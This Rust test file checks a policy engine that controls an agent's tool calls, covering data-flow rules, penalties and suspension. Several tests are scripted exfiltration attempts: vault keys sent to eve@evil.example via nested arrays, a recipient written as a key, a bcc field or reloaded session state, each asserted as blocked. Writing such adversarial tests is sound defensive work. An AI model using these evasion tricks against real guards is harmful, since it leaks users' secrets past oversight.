//! Attacks on flows, consequences and terms for once, each found by trying.
#![allow(
    clippy::allow_attributes,
    clippy::arithmetic_side_effects,
    clippy::indexing_slicing,
    clippy::needless_pass_by_value,
    clippy::panic,
    clippy::unwrap_used,
    reason = "a test may panic"
)]
mod common;

use cloister_pact::{Approval, Compiled, Decision, LogScope, Pact, SessionState, compile};
use common::{Play, base, document, text, tool};
use messages::event::{Body, Role, Status};
use serde_json::{Value, json};

fn made(value: &Value) -> Compiled {
    let pact = Pact::parse(value.to_string().as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    compile(&pact).unwrap_or_else(|e| panic!("{e}"))
}

fn not_allowed(got: (Decision, String)) {
    assert_ne!(got.0, Decision::Allow, "{got:?}");
}

fn watchful(flows: Value, send: Value) -> Compiled {
    let mut value = base();
    value["interactions"] =
        json!([tool("read_vault", "read", json!({})), tool("send_mail", "external-send", send)]);
    value["limits"] = json!([]);
    value["flows"] = flows;
    value["labels"] = json!({"sources": [
        {"tool": "read_vault", "trust": "record", "tier": "internal", "fields": [
            {"path": "key", "tier": "restricted"}, {"path": "crown", "tier": "top-secret"},
            {"path": "memo", "trust": "content", "tier": "restricted"}]}]});
    made(&value)
}
fn vault(p: &mut Play) {
    p.call("read_vault", json!({}));
    drop(p.answers(document(json!({"key": "kx-9931-a", "crown": "zz-1234-q", "memo": "the merger will be announced on the ninth of May"}))));
}

#[test]
fn allow_flow_needs_all_recipients() {
    let flows = json!([{"id": "keys", "from": {"tiers": ["restricted"]}, "to": {"interactions": ["send_mail"], "recipients": ["org:home.example"]}, "effect": "allow"}]);
    let send = json!({"unlisted_args": "allow", "max_tier": "internal", "args": {"to": {"provenance": {"any_of": ["principal", "org:home.example", "unseen"], "else": "deny"}}}});
    let mut p = Play::new(watchful(flows, send));
    vault(&mut p);
    not_allowed(p.call("send_mail", json!({"to": "eve@evil.example", "body": "kx-9931-a"})));
    not_allowed(p.call(
        "send_mail",
        json!({"to": ["bob@home.example", "eve@evil.example"], "body": "kx-9931-a"}),
    ));
}

#[test]
fn allow_flow_lifts_only_its_own() {
    let flows = json!([{"id": "keys", "from": {"tiers": ["restricted"]}, "to": {"interactions": ["send_mail"]}, "effect": "allow"}]);
    let send = json!({"unlisted_args": "allow", "max_tier": "internal"});
    let mut p = Play::new(watchful(flows, send));
    vault(&mut p);
    not_allowed(p.call("send_mail", json!({"body": "zz-1234-q"})));
    not_allowed(p.call("send_mail", json!({"body": "zz-1234-q", "extra": "kx-9931-a"})));
}

#[test]
fn deep_arguments_carry() {
    let flows = json!([{"id": "secrets", "from": {"tiers": ["restricted"]}, "to": {"interactions": ["send_mail"]}, "effect": "deny"}]);
    let mut p = Play::new(watchful(flows, json!({"unlisted_args": "allow"})));
    vault(&mut p);
    let mut v = json!("kx-9931-a");
    for _ in 0..70 {
        v = json!([v]);
    }
    not_allowed(p.call("send_mail", json!({"body": v})));
}

#[test]
fn recipient_as_key() {
    let flows = json!([{"id": "out", "from": {"tiers": ["restricted"]}, "to": {"interactions": ["send_mail"], "recipients": ["!org:home.example"]}, "effect": "deny"}]);
    let send = json!({"unlisted_args": "allow", "args": {"to": {"provenance": {"any_of": ["unseen", "org:home.example"], "else": "deny"}}}});
    let mut p = Play::new(watchful(flows, send));
    vault(&mut p);
    assert_eq!(
        p.call("send_mail", json!({"to": "eve@evil.example", "body": "kx-9931-a"})).0,
        Decision::Deny
    );
    not_allowed(
        p.call("send_mail", json!({"to": {"eve@evil.example": true}, "body": "kx-9931-a"})),
    );
}

#[test]
fn recipient_in_unlisted_arg() {
    let flows = json!([{"id": "out", "from": {"tiers": ["restricted"]}, "to": {"interactions": ["send_mail"], "recipients": ["!org:home.example"]}, "effect": "deny"}]);
    let send = json!({"unlisted_args": "allow", "args": {"to": {"provenance": {"any_of": ["unseen", "org:home.example"], "else": "deny"}}}});
    let mut p = Play::new(watchful(flows, send));
    vault(&mut p);
    not_allowed(p.call("send_mail", json!({"bcc": "eve@evil.example", "body": "kx-9931-a"})));
}

#[test]
fn forgot_and_a_flow_to_unseen() {
    let flows = json!([{"id": "out", "from": {"tiers": ["restricted"]}, "to": {"interactions": ["send_mail"], "recipients": ["unseen"]}, "effect": "deny"}]);
    let send = json!({"unlisted_args": "allow", "args": {"to": {"provenance": {"any_of": ["unseen", "principal", "org:evil.example"], "else": "deny"}}}});
    let mut p = Play::new(watchful(flows, send));
    vault(&mut p);
    assert_eq!(
        p.call("send_mail", json!({"to": "eve@evil.example", "body": "kx-9931-a"})).0,
        Decision::Deny
    );
    let bytes = minicbor::to_vec(p.session.scoped(LogScope::HashOnly)).unwrap();
    p.session = minicbor::decode::<SessionState>(&bytes).unwrap();
    not_allowed(p.call("send_mail", json!({"to": "eve@evil.example", "body": "kx-9931-a x"})));
}

#[test]
fn verdict_at_is_no_text_of_the_event() {
    let send = json!({"unlisted_args": "allow", "max_tier": "internal"});
    let mut p = Play::new(watchful(json!([]), send));
    vault(&mut p);
    let j = p.call_as("q", "send_mail", json!({"patient Jane Doe": "kx-9931-a"}), Approval::Absent);
    assert_ne!(j.verdict.at.as_deref(), Some("patient Jane Doe"));
}
fn kept(f: impl Fn(&mut Value)) -> Compiled {
    let mut value = base();
    value["interactions"] = json!([
        tool("look", "read", json!({})),
        tool("act", "write", json!({"approval": "always"}))
    ]);
    value["limits"] = json!([]);
    value["consequences"] = json!([]);
    f(&mut value);
    made(&value)
}
fn answer(
    p: &mut Play,
    id: &str,
    status: Status,
    latency_us: Option<u64>,
) -> cloister_pact::Judgement {
    drop(p.call_as(id, "look", json!({}), Approval::Absent));
    let body = Body::Result { call: id.into(), status, content: text(""), latency_us };
    p.event(Role::Provider, Role::Initiator, body, Approval::Absent)
}

#[test]
fn two_objectives_one_consequence_follow_once_each() {
    let goal = |id: &str, ind: &str| json!({"id": id, "indicator": ind, "op": ">=", "target": "0.9", "window": "P1D", "min_samples": 1});
    let mut p = Play::new(kept(|v| {
        v["performance"] = json!([goal("g1", "success_ratio"), goal("g2", "availability")]);
        v["consequences"] = json!([{"on": ["g1", "g2"], "do": [{"action": "penalty", "amount": "250.00", "unit": "EUR", "from_escrow": "e", "per": "breach"}]}]);
    }));
    let mut due = 0;
    for (n, s) in [
        Status::Error,
        Status::Timeout,
        Status::Error,
        Status::Error,
        Status::Error,
        Status::Error,
        Status::Error,
        Status::Error,
    ]
    .into_iter()
    .enumerate()
    {
        p.now += 1000;
        let j = answer(&mut p, &format!("k{n}"), s, Some(1));
        due += p.pact.duties(&j.change).count();
    }
    assert_eq!(due, 2, "penalties");
}

#[test]
fn single_interaction_runs_once_with_approvals() {
    let mut p = Play::new(kept(|v| {
        v["term"]["kind"] = json!("interaction");
        v["term"].as_object_mut().unwrap().remove("max_sessions");
    }));
    assert_eq!(
        p.call_as("x", "act", json!({}), Approval::Absent).verdict.decision,
        Decision::Escalate
    );
    assert_eq!(
        p.call_as("y", "act", json!({}), Approval::Absent).verdict.decision,
        Decision::Escalate
    );
    assert_eq!(
        p.call_as("x", "act", json!({}), Approval::Granted).verdict.decision,
        Decision::Allow
    );
    not_allowed({
        let j = p.call_as("y", "act", json!({}), Approval::Granted);
        (j.verdict.decision, j.verdict.rule)
    });
}

#[test]
fn provider_suspends_at_will() {
    let mut p = Play::new(kept(|v| {
        v["consequences"] = json!([{"on": ["deny"], "after": 3, "do": [{"action": "suspend"}]}]);
    }));
    for n in 0..3 {
        drop(p.result(&format!("none{n}"), Status::Ok, text("")));
    }
    assert!(!p.standing.suspended(), "three made-up results of the provider stop the pact");
}

#[test]
fn suspended_events_breach_again() {
    let mut p = Play::new(kept(|v| {
        v["consequences"] = json!([{"on": ["deny"], "do": [{"action": "suspend"}]},
      {"on": ["terminate"], "do": [{"action": "penalty", "amount": "250.00", "unit": "EUR", "from_escrow": "e", "per": "breach"}]}]);
    }));
    drop(p.call("nothing", json!({})));
    assert!(p.standing.suspended());
    let mut due = 0;
    for n in 0..5 {
        p.next_session();
        let j = p.call_as(&format!("n{n}"), "look", json!({}), Approval::Absent);
        due += p.pact.duties(&j.change).count();
    }
    assert!(due <= 1, "{due} penalties for attempts while suspended");
}
